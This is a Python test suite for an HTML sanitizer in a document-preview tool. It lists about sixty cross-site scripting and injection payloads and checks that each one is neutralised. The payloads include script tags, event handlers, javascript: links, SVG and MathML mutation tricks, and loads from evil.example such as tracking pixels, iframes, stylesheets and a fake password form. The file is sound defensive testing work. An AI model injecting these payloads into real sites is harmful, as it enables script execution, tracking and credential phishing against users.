"""No payload may leave a script, a handler, a link that leads anywhere, or a request to the outside."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any, BinaryIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reviews.formats import MediaType
from reviews.preview import markup
from reviews.preview.render import render
from reviews.preview.sanitize import OUR_CLASSES, sanitize

Convert = Callable[[BinaryIO], tuple[dict[str, Any], bytes]]

GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src=//evil.example/pixel.gif>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img srcset='https://evil.example/a 2x' src=x>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https://evil.example' target=_top ping='https://evil.example'>x</a>",
    "<a title='<a href=\"https://evil.example\">' href=https://evil.example>x</a>",
    "<a/href='https://evil.example'/rel=x>x</a>",
    "<area href='https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<video src='https://evil.example/v' poster='https://evil.example/p'></video>",
    "<audio src='https://evil.example/a'></audio>",
    "<input type=image src='https://evil.example/i'>",
    "<body background='https://evil.example/b' onload=alert(1)>",
    "<table background='https://evil.example/b'><tr><td>x</table>",
    "<p id=cookie name=body>clobber</p>",
    "<img name=getElementById src=x>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<template><script>alert(1)</script></template>",
    "<select><script>alert(1)</script></select>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
    "<p class='cs-hidden cs-notice'>imitation</p>",
    "<bdo dir=rtl>gnp.exe</bdo>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details ontoggle=alert(1) open>x</details>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p onclick=alert(1)//\nx>",
    "<img alt='\"><script>alert(1)</script>' src=x>",
    "<p>\x00<scr\x00ipt>alert(1)</script>",
]  # fmt: skip


class Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


HARMLESS = {
    "data-href",
    "alt",
    "colspan",
    "rowspan",
    "scope",
    "start",
    "type",
    "reversed",
    "value",
    "span",
    "class",
}
FORBIDDEN = {
    *(
        "script",
        "style",
        "svg",
        "math",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "base",
        "meta",
    ),
    *("link", "video", "audio", "area", "template", "noscript", "textarea", "select", "bdo", "title"),
}


def is_harmless(html: str) -> bool:
    finder = Finder()
    finder.feed(html)
    pictures = [value for tag, name, value in finder.attributes if (tag, name) == ("img", "src")]
    rest = {name for tag, name, _ in finder.attributes if (tag, name) != ("img", "src")}
    assert not FORBIDDEN & set(finder.tags), html
    assert rest <= HARMLESS, html
    assert all(
        re.fullmatch(r"data:image/(png|jpeg|gif);base64,[A-Za-z0-9+/=]+", value) for value in pictures
    ), html
    return True


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_comes_out_harmless(payload: str) -> None:
    once = sanitize(f"<p>before</p>{payload}<p>after</p>")
    assert is_harmless(once) and is_harmless(sanitize(once))
    assert "before" in once


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("convert", [markup.html, markup.markdown])
def test_no_kind_of_markup_lets_a_payload_through(convert: Convert, payload: str) -> None:
    source = payload.replace("\x00", "")
    _, html = convert(io.BytesIO(f"text\n\n{source}\n\n- {source}".encode()))
    assert is_harmless(html.decode())


def test_plain_text_lets_no_payload_through() -> None:
    everything = "\n".join(PAYLOADS).replace("\x00", "")
    assert is_harmless(render(MediaType.TEXT, io.BytesIO(everything.encode())).html)


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](https://evil.example/pixel.gif)",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        '[x](https://evil.example "onmouseover=alert(1)")',
        "```<script>alert(1)</script>\nx\n```",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ],
)
def test_markdown_cannot_smuggle_links_or_pictures(source: str) -> None:
    assert is_harmless(render(MediaType.MARKDOWN, io.BytesIO(source.encode())).html)


@given(st.text(alphabet="<>/=\"' abhrefimgsvgstyle!-&;#x3c&lt", max_size=120))
def test_any_soup_of_tags_comes_out_harmless(soup: str) -> None:
    assert is_harmless(sanitize(soup))


def test_a_link_keeps_its_words_and_shows_its_address_but_leads_nowhere() -> None:
    assert sanitize("<a href='https://a.example/?x=1&y=2'>here</a>") == (
        '<a data-href="https://a.example/?x=1&amp;y=2">here</a>'
    )


def test_a_small_picture_inside_the_file_is_shown() -> None:
    assert sanitize(f"<img src='{GIF}' alt=seal>") == f'<img src="{GIF}" alt="seal">'


def test_a_picture_from_outside_is_named_in_its_place() -> None:
    html = sanitize("<img src='https://evil.example/x.png' alt='<b>seal</b>'>")
    assert html == "<em>[Picture not shown: &lt;b&gt;seal&lt;/b&gt;]</em>"


def test_a_picture_of_fifty_thousand_pixels_a_side_is_not_shown() -> None:
    import base64
    import struct
    import zlib

    header = struct.pack(">2L5B", 50_000, 50_000, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + header
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">L", 13) + chunk + struct.pack(">L", zlib.crc32(chunk))
    address = "data:image/png;base64," + base64.b64encode(png).decode()
    assert sanitize(f"<img src='{address}'>") == "<em>[Picture not shown]</em>"


def test_unseen_characters_are_spelled_out() -> None:
    assert sanitize("<p>pay \u202eoot\u200b</p>") == "<p>pay ⟦U+202E⟧oot⟦U+200B⟧</p>"


def test_only_our_own_converters_may_use_our_marks() -> None:
    assert sanitize("<del class='cs-del evil'>x</del>", classes=OUR_CLASSES) == '<del class="cs-del">x</del>'
    assert sanitize("<del class='cs-del'>x</del>") == "<del>x</del>"
